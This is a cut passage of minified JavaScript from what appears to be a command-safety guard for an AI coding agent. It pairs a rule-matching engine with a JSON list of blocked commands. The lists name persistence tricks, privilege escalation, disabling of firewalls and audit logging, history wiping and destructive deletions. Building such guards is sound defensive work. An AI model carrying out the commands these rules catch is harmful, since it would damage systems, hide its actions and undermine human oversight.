1")}var im=t=>Jl.script_runners.has(t.toLowerCase());var ui=class{rules;byProgram=new Map;byEffect=new Map;phrased=new Map;constructor(e){this.rules=[...e].sort((s,r)=>Mt[s.severity]-Mt[r.severity]),this.rules.forEach(
(s,r)=>{for(let n of s.match??[])this.enter({rule:s,condition:n,at:r})})}hasUnreadRisk(e,s,r){let{program:n,path:o,args:i,redirects:a,folder:l}=e;if(je(o))return!0;
let c=({text:h})=>je(h),d=i.some(c);if(!d&&!a.some(h=>c(h.path))&&!(l&&c(l)))return!1;let u=new Ss(e,s);if(u.hasUnreadPath||!d)return u.hasUnreadPath;let p=u.operands.
some(c);if(n.includes("\uFFFC")||p&&S.roles.has(u.program))return!0;let f=!p&&u.options.some(({value:h})=>c(h))?"values":"any";return[this.byProgram.get(u.program)??
[],...this.byEffect.values()].flat().some(h=>Zl(h,r)&&sm(u,h.condition,f))}findWorstCaseRule(e,s,r){let n=e.args.some(({text:o})=>/^-\w*[rRf]|^--recursive|^--force/.
test(o));for(let[o,{only:i}]of S.candidates){if(o==="rm"&&!n)continue;let a=this.findBrokenRule(new Ss({...e,program:o,path:o},s),r);if(a&&(!i||i.includes(a.id)))
return a}}findBrokenRule(e,s){let r=this.first(e,s);if(!r||e.purpose===void 0)return r;let{redirects:n}=e.invocation,o=n.length>0?this.first(e.redirections,s):void 0,
i=e.purpose==="help"?void 0:this.first(e,s,e$);return this.selectWorse(o,i)}first(e,s,r=n=>!0){let n,o=[...this.byEffect].map(([i,a])=>i===void 0||e.getPathClasses(
i).size>0?a:[]);for(let i of[this.byProgram.get(e.program)??[],...o].flat())n&&i.at>=n.at||!Zl(i,s)||!r(i.rule)||!Zf(e,i.condition)||Z0(i.rule,e)||(n=i);return n?.
rule}getPhraseRules(e){let s=`${e.trust} ${e.level}`,r=o=>o.phrases!==void 0&&Zl({rule:o},e),n=this.phrased.get(s)??this.rules.filter(r);return this.phrased.set(
s,n),n}selectWorse(e,s){return!e||!s?e??s:this.rules.indexOf(s)<this.rules.indexOf(e)?s:e}enter(e){let{program:s,...r}=e.condition,n=Yl.find(o=>r[o]!==void 0);if(!s||
s.some(o=>o.includes("*")))am(this.byEffect,n,e);else for(let o of new Set(s))am(this.byProgram,o,{...e,condition:{...r,program:[o]}})}};function Zl({rule:t,condition:e},{
trust:s,level:r}){return t.trust!==void 0&&s>=t.trust?!1:r==="strict"||t.level!=="strict"&&e?.level!=="strict"}var J0=["files","privilege","persistence","proces\
ses","disks"];function Z0({spares:t,category:e},s){let r=J0.includes(e)||e==="git"&&s.operands[0]?.text!=="push";return s.isContained&&r||e==="databases"&&s.isInOwnContainer||
e==="credentials"&&s.isMasked||t?.includes("own-data")===!0&&zf(s)||t?.includes("own-act")===!0&&Mf(s)}var e$=({code:t,category:e})=>t==="credential_file_protec\
ted"||e==="remote-code";function am(t,e,s){t.set(e,[...t.get(e)??[],s])}var lm=JSON.parse('[{"code":"destructive_operation_blocked","id":"startup-file","category":"persistence","severity":"severe","explanation":"This changes what ru\
ns when somebody logs in or starts a program. Set variables for the one command that needs them.","trust":4,"match":[{"writes":["startup"]},{"moves":["startup"]\
},{"writes":["source","inner","local-system","system","temp","outside"],"line":{"any":["*APT::Update::P*-Invoke*","*DPkg::P*-Invoke*","*\\"folderOpen\\"*"]}}]},{"\
code":"destructive_operation_blocked","id":"schedule","category":"persistence","severity":"severe","explanation":"This makes something run later by itself. Run \
what is needed now.","trust":4,"match":[{"writes":["schedule"]},{"program":["crontab"],"flags":{"none":["-l","-h","--help","-V"]}},{"program":["at","batch","atr\
m"],"flags":{"none":["-l","-V"]}},{"program":["systemctl"],"subcommand":["enable","link","edit","add-wants","set-default","set-environment","reenable"]},{"progr\
am":["systemd-run"],"flags":{"none":["--scope","--pipe","-P","--pty","-t","--wait","--help","--version"]}},{"program":["systemd-run"],"flags":{"any":["--on-acti\
ve","--on-calendar","--on-boot","--on-startup","--on-unit-active","--path-property"]}},{"program":["launchctl"],"subcommand":["load","bootstrap","submit","enabl\
e"]},{"program":["update-rc.d","chkconfig","rc-update","insserv"]},{"program":["loginctl"],"subcommand":["enable-linger"]},{"program":["pm2"],"subcommand":["sta\
rtup"]},{"program":["osascript"],"options":{"-e":["*make login item*","*make new login item*"]}},{"program":["schtasks"],"args":{"any":["/create","/CREATE","/Cr\
eate"]}},{"program":["reg","Set-ItemProperty","New-ItemProperty"],"args":{"any":["*CurrentVersion\\\\Run*","*CurrentVersionRun*","*Winlogon*"]}},{"program":["Regi\
ster-ScheduledTask","New-Service"]}]},{"code":"destructive_operation_blocked","id":"login-key","category":"persistence","severity":"severe","explanation":"This \
decides who may log in. Ask the person whose account it is.","match":[{"writes":["authorized-keys"]},{"program":["ssh-copy-id","ssh-import-id"]}]},{"code":"dest\
ructive_operation_blocked","id":"vcs-hook","category":"persistence","severity":"severe","explanation":"This changes what git runs or whom it believes, for every\
body who uses the repository after you.","trust":4,"match":[{"writes":["vcs-config"]},{"program":["git"],"subcommand":["config"],"args":{"any":["core.hooksPath"\
,"core.hookspath"],"none":[".husky*",".githooks*","./*","hooks*","scripts/*","git-hooks*",".hooks*"],"at_least":2},"flags":{"none":["--get","--unset"]}},{"progr\
am":["git"],"subcommand":["config"],"args":{"any":["core.fsmonitor","core.fsMonitor","core.sshCommand","core.sshcommand","core.gitProxy","core.askPass","credent\
ial.helper","credential.*.helper","include.path","includeIf.*","url.*.insteadOf","url.*.insteadof","filter.*.*","init.templateDir","http.proxy","gpg.program","u\
ploadpack.packObjectsHook"],"at_least":2,"none":["true","false",".git*","git-lfs*"]},"flags":{"none":["--get","--unset","--unset-all","--get-all"]}},{"program":\
["git"],"subcommand":["config"],"args":{"any":["http.sslVerify","http.sslverify"],"at_least":2,"none":["true"]},"flags":{"none":["--get","--unset","--unset-all"\
,"--get-all"]}},{"program":["git"],"subcommand":["config"],"args":{"any":["!*"],"at_least":2}},{"program":["git"],"subcommand":["config"],"args":{"any":["core.p\
ager","core.editor","sequence.editor","diff.external","pager.*"],"at_least":2,"none":["less*","delta*","cat","vi*","nvim*","nano*","code*","more*","diff-so-fanc\
y*","most","emacs*","true","false","bat*","subl*","difft*"]},"flags":{"none":["--get","--unset"]}},{"program":["git"],"subcommand":["config set"],"args":{"any":\
["core.hooksPath","core.fsmonitor","core.sshCommand","credential.helper","include.path","http.proxy"],"none":["true","false"]}}]},{"code":"destructive_operation\
_blocked","id":"preloaded-code","category":"persistence","severity":"severe","explanation":"This loads code of yours into programs that are not yours. Run the p\
rogram as it is.","trust":4,"match":[{"environment":{"LD_PRELOAD":["/tmp/*","/var/tmp/*","/dev/shm/*","./*","*evil*","*hook*"]}},{"environment":{"LD_AUDIT":["/*\
","./*"]}},{"environment":{"DYLD_INSERT_LIBRARIES":["/*","./*"]}},{"environment":{"BASH_ENV":["/tmp/*","/dev/*","/var/tmp/*"]}},{"environment":{"PYTHONSTARTUP":\
["/tmp/*","/var/tmp/*"]}},{"environment":{"PROMPT_COMMAND":["*"]}},{"program":["export","declare","typeset"],"args":{"any":["PATH=/tmp/*","PATH=/var/tmp/*","LD_\
LIBRARY_PATH=/tmp/*","PYTHONPATH=/tmp/*"]}},{"program":["ldconfig"],"args":{"any":["/tmp/*","/var/tmp/*","/dev/shm/*"]}},{"program":["alias"],"args":{"any":["su\
do=*","su=*","doas=*","ssh=*"],"none":["sudo=sudo *","ssh=ssh *"]}},{"program":["git"],"environment":{"GIT_SSH*":["./*","../*","/tmp/*","/var/tmp/*","/dev/shm/*\
","sh *","bash *","python*","node *","perl *"]}},{"program":["git"],"environment":{"GIT_PROXY_COMMAND":["./*","../*","/tmp/*","/var/tmp/*","/dev/shm/*","sh *","\
bash *","python*","node *","perl *"]}},{"program":["git"],"environment":{"GIT_CONFIG_KEY_*":["core.sshCommand","core.sshcommand","core.gitProxy","core.askPass"]\
,"GIT_CONFIG_VALUE_*":["./*","../*","/tmp/*","/var/tmp/*","/dev/shm/*","sh *","bash *","python*","node *","perl *"]}}]},{"code":"destructive_operation_blocked",\
"id":"package-manager-settings","category":"persistence","severity":"risky","explanation":"This changes where packages come from, or what runs with them, for al\
l that follows. Name the registry for the one command.","trust":3,"match":[{"program":["npm","pnpm","yarn"],"subcommand":["config set"],"args":{"any":["registry\
*","script-shell*","//*","prefix*","*:registry*","strict-ssl*","proxy*","https-proxy*","cafile*"]}},{"program":["pip"],"subcommand":["config set"],"args":{"any"\
:["global.*index*","global.trusted-host","install.trusted-host","site.*index*"]}},{"program":["defaults"],"subcommand":["write"],"args":{"any":["*loginwindow*",\
"*LoginHook*","/Library/*"]}}]},{"code":"destructive_operation_blocked","id":"root-shell","category":"privilege","severity":"severe","explanation":"This opens a\
 session of another user in which nothing is checked. Run the one command that needs it.","trust":4,"match":[{"program":["sh","bash","zsh","dash","ksh","ash","f\
ish","mksh","csh","tcsh",".","source","eval"],"via":["unshare"],"args":{"at_most":0},"flags":{"none":["-c"]}},{"program":["sudo","doas","please","run0"],"flags"\
:{"any":["-i","-s","--login","--shell"]}},{"program":["su"],"flags":{"none":["--help","--version"]}},{"program":["sh","bash","zsh","dash","ksh","fish"],"root":t\
rue,"args":{"at_most":0},"flags":{"none":["-c","-s","--version","--help"]}},{"program":["pkexec","machinectl"],"args":{"any":["*sh","shell"]}},{"program":["sh",\
"bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval"],"via":["vim","vi","nvim","view","ex","ed","less","more","man","find","gdb","awk"\
,"gawk","mawk","git"],"args":{"at_most":0},"flags":{"none":["-c","-s","--version","--help"]}},{"program":["nsenter","newgrp"]},{"program":["sg"],"args":{"none":\
["scan","run","test","new","lsp","completions"]},"flags":{"none":["-p","--pattern","-l","--lang","-r","--rewrite","--help","--version"]}},{"via":["nsenter"]}]},\
{"code":"destructive_operation_blocked","id":"grant-rights","category":"privilege","severity":"severe","explanation":"This gives rights to users or programs. As\
k the person who runs the machine.","trust":4,"match":[{"program":["chmod"],"args":{"any":["u+s*","g+s*","g+xs*","ug+s*","gu+s*","+s*","a+s*","*,u+s*","*,+s*","\
u+xs*","u+rs*","+xs*","u=*s*","4755","4777","4711","4750","4555","4775","4700","6755","6777","04755","06755","04777","2755","2711","2555","2751","02755"]}},{"pr\
ogram":["install","mkdir"],"options":{"-m":["4755","4777","4711","4555","6755","6777","u+s*","04755"]}},{"program":["install","mkdir"],"options":{"--mode":["475\
5","4777","4711","4555","6755","6777","u+s*","04755"]}},{"program":["setcap"],"flags":{"none":["-v"]}},{"program":["gpasswd","adduser","addgroup"],"args":{"any"\
:["*sudo*","*wheel*","*admin*","*root*","*docker*","*lxd*","*disk*","*shadow*","*libvirt*","*adm","*adm,*"]}},{"program":["usermod"],"options":{"-G":["*sudo*","\
*wheel*","*admin*","*root*","*docker*","*lxd*","*disk*","*shadow*","*libvirt*","*adm","*adm,*"]}},{"program":["usermod"],"options":{"--groups":["*sudo*","*wheel\
*","*admin*","*root*","*docker*","*lxd*","*disk*","*shadow*","*libvirt*","*adm","*adm,*"]}},{"program":["usermod"],"flags":{"none":["-G","--groups","--help","--\
version"]}},{"program":["gpasswd"],"flags":{"any":["-A","-M","-r","-R","-d","--administrators","--members"]}},{"program":["chsh"],"args":{"at_least":2}},{"progr\
am":["chsh"],"args":{"any":["./*","../*","/tmp/*","/var/tmp/*","/dev/shm/*","sh *","bash *","python*","node *","perl *"]}},{"program":["useradd","adduser","user\
del","deluser","groupdel","groupmod","chpasswd","newusers","chage","passwd","vipw","vigr","pwconv","delgroup","dsenableroot"],"flags":{"none":["--help","-S","--\
status","-l","--version"]}},{"program":["sysadminctl"],"flags":{"any":["-addUser","-deleteUser","-resetPasswordFor","-secureTokenOn"]}},{"program":["sysadminctl\
"],"args":{"any":["interactive"]}},{"program":["dscl"],"args":{"any":["delete","create","append","change","passwd","merge"]}},{"program":["dscl"],"flags":{"any"\
:["-delete","-create","-append","-change","-passwd","-merge"]}},{"program":["dseditgroup"],"options":{"-o":["edit","delete","create"]}},{"program":["fprintd-del\
ete"]},{"program":["Remove-LocalUser"]},{"program":["faillock"],"flags":{"any":["--reset"]}},{"program":["visudo"],"flags":{"none":["--help","-c","--check","-V"\
,"--version"]}},{"writes":["accounts"]},{"program":["net"],"subcommand":["user","localgroup"],"args":{"at_least":1}}]},{"code":"destructive_operation_blocked","\
id":"switch-protection-off","category":"privilege","severity":"severe","explanation":"This switches a protection or the keeping of evidence off. Work with it, a\
nd say what it stands in the way of.","trust":4,"match":[{"program":["xhost"],"args":{"any":["+"]}},{"program":["setenforce"],"args":{"any":["0","Permissive","p\
ermissive"]}},{"program":["ufw"],"subcommand":["disable","reset","default allow","--force"]},{"program":["iptables","ip6tables","ebtables"],"flags":{"any":["-F"\
,"--flush","-X","-P","--policy","-D"]}},{"program":["nft"],"subcommand":["flush","delete"]},{"program":["firewall-cmd"],"flags":{"any":["--panic-on","--remove-s\
ervice","--add-port","--add-rich-rule","--set-default-zone"]}},{"program":["pfctl"],"flags":{"any":["-d","-F"]}},{"program":["systemctl","service","rc-service"]\
,"args":{"any":["ufw*","firewalld*","apparmor*","auditd*","fail2ban*","iptables*","nftables*","rsyslog*","syslog*","falco*","clamav*","crowdstrike*","falcon-sen\
sor*","selinux*","systemd-journald*","osqueryd*"],"none":["status","is-active","show","is-enabled","start","cat"]}},{"program":["aa-disable","aa-teardown","aa-c\
omplain","csrutil"],"args":{"none":["status","help"]}},{"program":["spctl"],"flags":{"any":["--master-disable","--global-disable","--add","--remove","--disable"\
]}},{"program":["capsh"],"flags":{"any":["--caps","--addamb","--uid","--user"]}},{"program":["set"],"subcommand":["+o history"]},{"program":["xattr"],"flags":{"\
any":["-d","-c"]},"args":{"any":["com.apple.quarantine"]}},{"program":["update-ca-certificates","update-ca-trust"],"line":{"any":["cp *","mv *","curl *","wget *\
","tee *","install *","ln *"]}},{"program":["trust"],"subcommand":["anchor"]},{"program":["security"],"subcommand":["add-trusted-cert"]},{"program":["certutil"]\
,"flags":{"all":["-A"]},"options":{"-t":["*C*","*T*"]}},{"program":["update-alternatives"],"flags":{"any":["--install","--set"]},"args":{"any":["*/sudo","*/ssh"\
,"*/su","/tmp/*"]}},{"program":["apparmor_parser"],"flags":{"any":["-R","--remove","-C","--Complain"]}},{"program":["auditctl"],"flags":{"any":["-D"]}},{"progra\
m":["auditctl"],"options":{"-e":["0"]}},{"program":["auditctl"],"args":{"any":["0"]}},{"program":["sysctl"],"flags":{"any":["-w","--write","-p","--load","--syst\
em"]}},{"program":["sysctl"],"args":{"any":["*=*"]}},{"program":["insmod","modprobe","rmmod","kexec","kldload","kextload"],"flags":{"none":["--help","-V","--ver\
sion","-n"]}},{"program":["kmod"],"subcommand":["insert","remove","load","unload"]},{"program":["history"],"flags":{"any":["-c","-d"]}},{"program":["unset"],"ar\
gs":{"any":["HISTFILE"]}},{"program":["export","declare"],"args":{"any":["HISTFILE=/dev/null","HISTSIZE=0","HISTFILESIZE=0"]}},{"program":["journalctl"],"flags"\
:{"any":["--vacuum-time","--vacuum-size","--vacuum-files","--rotate"]}},{"program":["dmesg"],"flags":{"any":["-C","--clear","-c"]}},{"program":["wevtutil","Clea\
r-EventLog"]},{"program":["Set-ExecutionPolicy","Set-MpPreference","Add-MpPreference","Disable-WindowsOptionalFeature","netsh","bcdedit","vssadmin"]},{"program"\
:["tc","ip"],"subcommand":["link set * down","route flush","route del","addr flush","link delete","rule flush"]},{"program":["ifconfig","ifdown","nmcli"],"args"\
:{"any":["down","off"]}}]},{"code":"destructive_operation_blocked","id":"change-root","category":"privilege","severity":"severe","explanation":"This leaves the \
file system that you were given. Stay in it.","trust":4,"match":[{"program":["chroot","pivot_root","switch_root"]},{"via":["chroot"]}]},{"code":"destructive_ope\
ration_blocked","id":"delete-machine","category":"files","severity":"catastrophic","explanation":"This deletes the file system, the operating system, or somebod\
y\'s home. Delete by name inside the workspace.","match":[{"deletes":["root","home"]},{"deletes":["system-tree"],"recursive":true},{"program":["rsync"],"flags":{\
"any":["--delete","--delete-after","--delete-before","--delete-during","--delete-delay","--delete-excluded","--del"]},"writes":["root","home","system-tree"]},{"\
program":["rm","rimraf"],"flags":{"any":["--no-preserve-root"]}}]},{"code":"destructive_operation_blocked","id":"delete-system-file","category":"files","severit\
y":"severe","explanation":"This deletes a file of the system. What lies outside the workspace is not yours to delete.","trust":4,"match":[{"deletes":["system","\
accounts","schedule","kernel","device","socket"]},{"deletes":["local-system"],"recursive":true},{"program":["rm","unlink"],"args":{"any":["*/\\\\*"]},"deletes":["\
local-system"]},{"program":["rm","unlink","shred"],"deletes":["outside","local-system"],"names":["data"],"level":"strict"}]},{"code":"destructive_operation_bloc\
ked","id":"delete-temporary-folder","category":"files","severity":"severe","explanation":"This deletes the temporary files of everybody on the machine. Delete y\
our own, by name.","match":[{"deletes":["temp-root"]},{"program":["rsync"],"flags":{"any":["--delete","--delete-after","--delete-before","--delete-during","--de\
lete-delay","--delete-excluded","--del"]},"writes":["temp-root"]}]},{"code":"destructive_operation_blocked","id":"delete-workspace","category":"files","severity\
":"severe","explanation":"This deletes the whole workspace or a folder around it. Name what is meant, one by one.","trust":4,"match":[{"deletes":["workspace"]}]\
},{"code":"destructive_operation_blocked","id":"delete-source","category":"files","severity":"severe","explanation":"This deletes a folder that no build makes a\
new. Use git rm -r, which keeps what is not committed, or name the files.","trust":3,"match":[{"deletes":["source-folder","personal","outside"],"recursive":true\
},{"program":["rm","unlink"],"args":{"any":["*/\\\\*"]},"deletes":["personal","outside"]},{"program":["rm","unlink","del","shred"],"args":{"any":["/*\\\\*.pdf","/*\\\
\\*.doc*","/*\\\\*.xls*","/*\\\\*.ppt*","/*\\\\*.odt","/*\\\\*.ods","/*\\\\*.tif*","/*\\\\*.jp*g","/*\\\\*.heic","/*\\\\*.raw","/*\\\\*.psd","/*\\\\*.mov","/*\\\\*.mp3","/*\\\\*.mp4","/\
*\\\\*.mkv","/*\\\\*.wav","/*\\\\*.flac","/*\\\\*.eml","/*\\\\*.mbox","/*\\\\*.dwg"]},"deletes":["outside","system","local-system"]},{"program":["rm","unlink"],"args":{"any\
":["~/\\ufffc/\\ufffc"]}},{"program":["rm","unlink"],"args":{"any":["*.tfstate","*.tfstate.backup"]},"level":"strict"},{"deletes":["source","inner"],"recursive":t\
rue,"level":"strict"},{"program":["rm","unlink","del"],"args":{"any":["*/\\\\*","*\\\\*.ts","*\\\\*.tsx","*\\\\*.js","*\\\\*.py","*\\\\*.go","*\\\\*.rs","*\\\\*.java","*\\\\*.rb"\
,"*\\\\*.c","*\\\\*.cpp","*\\\\*.h","*\\\\*.php","*\\\\*.cs","*\\\\*.kt","*\\\\*.swift","*\\\\*.md","*\\\\*.mjs","*\\\\*.cjs","*\\\\*.jsx","*\\\\*.vue","*\\\\*.svelte","*\\\\*.pm","*\\\\*.pl\
","*\\\\*.t","*\\\\*.scala","*\\\\*.ex","*\\\\*.exs","*\\\\*.lua","*\\\\*.cc","*\\\\*.hpp","*\\\\*.dart","*\\\\*.R","*\\\\*.ipynb","*\\\\*.proto","*\\\\*.sql","*\\\\*.css","*\\\\*.scss"]},\
"deletes":["source","inner"],"level":"strict"},{"program":["zip"],"flags":{"any":["-m","--move"]},"level":"strict"},{"program":["zip"],"moves":["personal","home\
","system"]},{"program":["7z","7za","7zz"],"flags":{"any":["-sdel"]},"level":"strict"},{"program":["cmd"],"line":{"any":["cmd*/c *del */s*","cmd*/c *rd */s*","c\
md*/c *rmdir */s*","cmd*/C *del */s*","cmd*/C *rd */s*"]}},{"deletes":["personal","startup","logs"]},{"program":["fdupes","jdupes"],"flags":{"all":["-d","-N"]}}\
,{"program":["fdupes","jdupes"],"flags":{"all":["--delete","--noprompt"]}},{"program":["rdfind"],"args":{"any":["true"]},"flags":{"any":["-deleteduplicates"]}},\
{"program":["rdfind"],"options":{"-deleteduplicates":["true"]}},{"program":["hdfs","hadoop"],"flags":{"any":["-rm","-rmr","-expunge"]},"args":{"none":["/tmp/*"]\
}},{"program":["gphoto2"],"flags":{"any":["--delete-all-files","--delete-file"]}},{"program":["Clear-RecycleBin"]},{"program":["trash-empty"],"args":{"at_most":\
0},"flags":{"none":["--help","-h","--version","--dry-run","-n"]}},{"program":["gio"],"subcommand":["trash"],"flags":{"any":["--empty"]}},{"program":["osascript"\
],"options":{"-e":["*delete every item*","*delete every file*","*delete every folder*","*empty trash*","*empty the trash*"]}}]},{"code":"destructive_operation_b\
locked","id":"delete-unknown","category":"files","severity":"severe","explanation":"Where this variable is empty, everything is deleted. Write ${NAME:?}, which \
stops there, or name the folder.","trust":4,"match":[{"deletes":["unknown-folder"]},{"moves":["unknown-folder"]},{"changes":["unknown-folder"],"recursive":true}\
,{"program":["rm","shred","rimraf"],"via":["xargs","gxargs"],"recursive":true,"args":{"any":["\\ufffc"]}}]},{"code":"destructive_operation_blocked","id":"delete-\
vcs","category":"files","severity":"severe","explanation":"This deletes the repository with its history. Leave .git alone.","trust":4,"match":[{"deletes":["vcs"\
]},{"moves":["vcs"]}]},{"code":"destructive_operation_blocked","id":"shred-files","category":"files","severity":"severe","explanation":"What is shredded cannot \
be brought back. Delete it in the ordinary way.","trust":3,"match":[{"program":["shred","srm","wipe","scrub"],"names":["root","system","home","personal","outsid\
e","workspace","source","data","logs","device","unknown"]}]},{"code":"destructive_operation_blocked","id":"empty-files","category":"files","severity":"severe","\
explanation":"This empties files; their content is gone. Edit them, or delete what is disposable.","trust":3,"match":[{"program":["truncate"],"options":{"--size\
":["0","0*","-*"]},"writes":["system","local-system","home","personal","outside","workspace","source","data","logs","vcs"]},{"program":["truncate"],"options":{"\
-s":["0","0*","-*","=0"]},"writes":["system","local-system","home","personal","outside","workspace","source","data","logs","vcs"]},{"program":["truncate"],"args\
":{"any":["*\\\\**"]},"writes":["inner","outside","workspace"]},{"program":["cp","dd","cat","mv"],"reads":["nowhere"],"writes":["system","personal","vcs","data","\
logs"]},{"program":["echo","printf",":","true"],"redirected":true,"args":{"at_most":0},"writes":["personal"]},{"program":["cp"],"reads":["nowhere"],"writes":["s\
ource","inner"],"level":"strict"},{"program":["sed"],"flags":{"any":["-i"]},"args":{"any":["d","1,$d"]},"writes":["source","inner","workspace"],"level":"strict"\
}]},{"code":"destructive_operation_blocked","id":"move-away","category":"files","severity":"severe","explanation":"This moves away what others rely on, or throw\
s it away. Copy it, or name what is meant.","trust":4,"match":[{"moves":["root","home","system","workspace"]},{"program":["mv"],"args":{"any":["/dev/*null","*de\
v/null"]}}]},{"code":"destructive_operation_blocked","id":"write-system-file","category":"files","severity":"severe","explanation":"This writes a file of the op\
erating system. Keep to the workspace; use the package manager for tools.","trust":4,"match":[{"writes":["root","kernel"]},{"writes":["system","accounts"]},{"pr\
ogram":["curl","wget"],"writes":["local-system"]},{"program":["tar","unzip","bsdtar"],"args":{"any":["x*"]},"writes":["root","system"]}]},{"code":"destructive_o\
peration_blocked","id":"change-rights-of-machine","category":"files","severity":"catastrophic","explanation":"This changes owner or rights of the system or of a\
 home. The machine may not start again.","match":[{"changes":["root"],"recursive":true},{"program":["chmod"],"changes":["root"],"args":{"none":["755","0755","55\
5","0555","+x","a+x","+rx","a+rx"]}},{"changes":["system-tree","accounts"],"recursive":true},{"program":["chmod","chgrp","chattr","setfacl","chcon"],"changes":[\
"home"],"recursive":true},{"program":["chown"],"changes":["home"],"recursive":true,"args":{"none":["\\ufffc*"]}}]},{"code":"destructive_operation_blocked","id":"\
change-rights-of-system-file","category":"files","severity":"severe","explanation":"This changes owner or rights of a file of the system. Keep to the workspace.\
","trust":4,"match":[{"changes":["system","accounts","device","kernel","socket","schedule"]},{"program":["setfacl"],"flags":{"any":["-b","--remove-all"]},"recur\
sive":true,"changes":["local-system","outside","personal"]},{"program":["chown","chgrp","setfacl"],"changes":["root"]}]},{"code":"destructive_operation_blocked"\
,"id":"open-rights-widely","category":"files","severity":"severe","explanation":"This opens a whole tree to everybody, or closes it to its owner. Change the one\
 file that needs it.","trust":3,"match":[{"program":["chmod"],"recursive":true,"args":{"any":["777","0777","666","0666","000","0","0000","a+rwx","ugo+rwx","a=rw\
x","o+w","a+w","o+rwx","a-rwx","*-rwx"]},"changes":["workspace","source","personal","outside","home","local-system","unknown","vcs","data"]},{"program":["chmod"\
],"args":{"any":["777","0777","666","0666","644","0644","755","0755","000","0","*o+*","*a+r*","*g+r*","+r","*a=r*"]},"changes":["credentials","authorized-keys"]\
},{"program":["chmod"],"args":{"any":["777","0777","666","0666","000","0","0000","a+rwx","ugo+rwx","o+w","a+w","o+rwx","*-rwx"]},"changes":["home"]},{"program":\
["chown","chgrp"],"recursive":true,"changes":["personal"]}]},{"code":"destructive_operation_blocked","id":"remove-system-package","category":"files","severity":\
"severe","explanation":"This removes a package that the machine or others on it need. Leave installed packages alone.","trust":4,"match":[{"program":["apt","apt\
-get","aptitude","yum","dnf","microdnf","zypper","apk"],"subcommand":["remove","purge","erase","autopurge","del"],"args":{"any":["libc6","libc6:*","glibc","musl\
","linux-image*","linux-headers*","linux","kernel","kernel-*","systemd","base","base-*","python3","python3.*","python3-minimal","bash","coreutils","dpkg","rpm",\
"apt","util-linux","busybox","openssl","libssl3","init","sudo","openssh-server"]}},{"program":["pacman"],"flags":{"any":["-R"]},"args":{"any":["libc6","libc6:*"\
,"glibc","musl","linux-image*","linux-headers*","linux","kernel","kernel-*","systemd","base","base-*","python3","python3.*","python3-minimal","bash","coreutils"\
,"dpkg","rpm","apt","util-linux","busybox","openssl","libssl3","init","sudo","openssh-server"]}},{"program":["dpkg","rpm"],"flags":{"any":["--purge","--remove",\
"-r","-P","-e","--erase"]},"args":{"any":["libc6","libc6:*","glibc","musl","linux-image*","linux-headers*","linux","kernel","kernel-*","systemd","base","base-*"\
,"python3","python3.*","python3-minimal","bash","coreutils","dpkg","rpm","apt","util-linux","busybox","openssl","libssl3","init","sudo","openssh-server"]}},{"pr\
ogram":["dpkg"],"flags":{"any":["--force-all"]}},{"program":["rpm"],"flags":{"all":["-e","--nodeps"]}},{"program":["brew"],"subcommand":["uninstall","remove","r\
m"],"args":{"any":["*\\ufffc*"]},"line":{"any":["brew list*","brew leaves*"]}},{"program":["apt","apt-get","aptitude","yum","dnf","microdnf","zypper","apk"],"sub\
command":["remove","purge","erase","autopurge","del"],"level":"strict"},{"program":["pacman"],"flags":{"any":["-R"]},"level":"strict"},{"program":["dpkg"],"flag\
s":{"any":["--purge","--remove","-r","-P"]},"level":"strict"}]},{"code":"destructive_operation_blocked","id":"sync-with-deletion","category":"files","severity":\
"severe","explanation":"This deletes at the goal what the source does not have. Leave --delete out, or name a folder that is yours.","trust":4,"match":[{"progra\
m":["robocopy"],"args":{"any":["/MIR","/mir","/PURGE","/purge"]}},{"program":["rsync","robocopy"],"flags":{"any":["--delete","--delete-after","--delete-before",\
"--delete-during","--delete-delay","--delete-excluded","--del","--remove-source-files"]},"writes":["local-system","personal","outside","workspace","vcs","unknow\
n-folder"]},{"program":["sync-away"]},{"program":["rsync"],"flags":{"any":["--delete","--delete-after","--delete-before","--delete-during","--delete-delay","--d\
elete-excluded","--del"]},"args":{"any":["*empty*","*blank*","/tmp/*"]},"writes":["source"],"level":"strict"}]},{"code":"destructive_operation_blocked","id":"gi\
t-force-push","category":"git","severity":"severe","explanation":"A forced push overwrites what others have pushed. Push a new branch, or a commit that reverts.\
","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["push"],"flags":{"any":["-f","--force","--force-with-lease","--force-if-includes"]}},\
{"program":["git"],"subcommand":["push","send-pack"],"args":{"any":["+*"]}},{"program":["git"],"subcommand":["send-pack"],"flags":{"any":["--force","-f"]}},{"pr\
ogram":["git"],"subcommand":["push"],"flags":{"any":["--mirror"]}},{"program":["git"],"subcommand":["config remote.*.mirror true","config remote.*.mirror 1","co\
nfig remote.*.push +*","config set remote.*.mirror true","config set remote.*.push +*","config remote.*.push :*"]},{"program":["git"],"subcommand":["remote add"\
],"flags":{"any":["--mirror"]},"line":{"any":["git push*"]}},{"program":["git"],"subcommand":["push"],"environment":{"GIT_CONFIG_VALUE_*":["+*"]}},{"program":["\
git"],"subcommand":["push"],"environment":{"GIT_CONFIG_KEY_*":["remote.*.mirror","remote.*.push"]}}]},{"code":"destructive_operation_blocked","id":"git-delete-r\
emote-ref","category":"git","severity":"severe","explanation":"This deletes branches or tags of the remote, which others may need. Leave it to the person who ow\
ns them.","trust":3,"spares":["own-act"],"match":[{"program":["git"],"subcommand":["push"],"flags":{"any":["-d","--delete","--prune"]}},{"program":["svn"],"subc\
ommand":["delete","del","rm","remove"],"args":{"any":["*://*"]}},{"program":["jj"],"subcommand":["git push"],"flags":{"any":["--deleted"]}},{"program":["git"],"\
subcommand":["push","send-pack"],"args":{"any":[":*"],"none":[":"]}}]},{"code":"destructive_operation_blocked","id":"git-reset-hard","category":"git","severity"\
:"severe","explanation":"git reset --hard and --merge throw uncommitted changes away. Use git stash, or git restore for one file.","trust":3,"spares":["own-act"\
],"match":[{"program":["git"],"subcommand":["reset"],"flags":{"any":["--hard","--merge"]}}]},{"code":"destructive_operation_blocked","id":"git-clean","category"\
:"git","severity":"severe","explanation":"git clean deletes files that git has never seen. Look with git clean -n, then delete by name.","trust":3,"spares":["ow\
n-act"],"match":[{"program":["git"],"subcommand":["clean"],"flags":{"any":["-f","--force"]},"args":{"at_most":0}},{"program":["git"],"subcommand":["clean"],"fla\
gs":{"any":["-f","--force"]},"changes":["workspace","source","inner","personal","outside","home","root","system","local-system","temp-root","unknown","unknown-f\
older","vcs"]},{"program":["git"],"subcommand":["clean"],"environment":{"GIT_CONFIG_VALUE_*":["false"]}}]},{"code":"destructive_operation_blocked","id":"git-del\
